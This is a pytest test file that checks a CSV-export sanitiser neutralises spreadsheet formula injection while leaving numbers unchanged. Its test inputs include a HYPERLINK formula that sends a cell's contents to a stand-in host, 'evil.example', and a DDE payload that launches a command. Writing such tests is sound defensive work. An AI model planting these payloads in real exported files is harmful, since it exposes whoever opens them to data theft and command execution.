"""CSV cells that a spreadsheet reads as data: text starting with a formula character gets a
leading quote, numbers stay numbers (expected values written by hand)."""

from __future__ import annotations

from decimal import Decimal

import pytest

from analytics_pipeline.core.spreadsheet import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+",
        "@",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-12.50", "+3", "-0", "1e-5", "-1E+3", "-.5", "12.", "-7"])
def test_text_that_is_a_plain_number_stays_a_number(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -0.25, None, True])
def test_values_that_are_not_text_are_left_alone(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["swiss", "a=b", " =1+1", "1-2", "", "'=already quoted"])
def test_other_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["-12.50x", "- 12", "--1", "+1+1", "-1e", "-inf", "-nan"])
def test_almost_numbers_are_neutralised(text):
    assert safe_cell(text) == "'" + text
